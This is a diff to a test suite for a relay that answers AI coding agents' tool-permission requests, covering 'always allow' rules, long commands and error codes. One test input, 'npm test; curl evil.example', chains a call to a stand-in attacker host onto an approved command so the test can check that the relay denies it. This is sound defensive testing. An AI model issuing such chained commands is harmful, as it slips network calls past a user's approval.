@@ -49,6 +49,29 @@ async def test_permission_request_always_allowed_returns_claudes_suggestions(rel
     assert out == permission({"behavior": "allow", "updatedPermissions": SUGGESTIONS})
 
 
+async def test_always_allow_makes_the_relay_answer_the_same_call_at_once(relay: LiveRelay, owner: RelayClient,
+                                                                         key: str) -> None:
+    out, _ = await answered(relay, owner, key, "claude-code", "PermissionRequest", CLAUDE["PermissionRequest"],
+                            ALWAYS_ALLOW)
+    assert out["hookSpecificOutput"]["decision"]["behavior"] == "allow"
+    status, out = await post_hook(relay, key, "claude-code", "PermissionRequest", CLAUDE["PermissionRequest"])
+    assert (status, out) == (200, permission({"behavior": "allow"}))
+    other = payload(CLAUDE, "PermissionRequest", tool_input={"command": "npm test; curl evil.example"})
+    out, _ = await answered(relay, owner, key, "claude-code", "PermissionRequest", other, DENY)
+    assert out == permission({"behavior": "deny", "message": DENIED})
+    requests = await owner.list_requests()
+    assert [r.action.argument if r.action else None for r in requests] == ["npm test", "npm test",
+                                                                           "npm test; curl evil.example"]
+    assert requests[1].answered_by is not None and requests[1].answered_by.startswith("rule:")
+
+
+async def test_a_call_too_long_for_a_rule_is_asked_without_always_allow(relay: LiveRelay, owner: RelayClient,
+                                                                        key: str) -> None:
+    body = payload(GEMINI, "BeforeTool", tool_input={"command": "echo " + "x" * 9000})
+    out, choices = await answered(relay, owner, key, "gemini", "BeforeTool", body, ALLOW_ONCE)
+    assert (out, choices) == ({"decision": "allow"}, ["Allow once", "Deny"])
+
+
 async def test_permission_request_without_suggestions_offers_no_always_allow(relay: LiveRelay, owner: RelayClient,
                                                                              key: str) -> None:
     body = payload(CLAUDE, "PermissionRequest", permission_suggestions=[])
@@ -170,7 +193,7 @@ async def test_codex_permission_request(relay: LiveRelay, owner: RelayClient, ke
                                         decision: dict[str, str]) -> None:
     out, choices = await answered(relay, owner, key, "codex", "PermissionRequest", CODEX["PermissionRequest"], answer)
     assert out == permission(decision)
-    assert choices == ["Allow once", "Deny"]
+    assert choices == ["Allow once", "Deny", "Always allow"]  # the relay keeps the rule
 
 
 async def test_codex_stop_continue_becomes_its_next_prompt(relay: LiveRelay, owner: RelayClient, key: str) -> None:
@@ -202,10 +225,10 @@ async def test_gemini_after_agent_retries_with_the_instruction(relay: LiveRelay,
     assert out == {}
 
 
-async def test_an_unknown_client_or_event_is_404_hook_not_found(relay: LiveRelay, key: str) -> None:
+async def test_an_unknown_client_or_event_is_404_not_found(relay: LiveRelay, key: str) -> None:
     for client, event in (("cursor", "Stop"), ("claude-code", "SessionStart")):
         status, out = await post_hook(relay, key, client, event, {})
-        assert (status, out["error"]["code"]) == (404, "hook_not_found")
+        assert (status, out["error"]["code"]) == (404, "not_found")
 
 
 async def test_a_hook_without_a_key_is_refused_and_asks_nobody(relay: LiveRelay, owner: RelayClient) -> None:
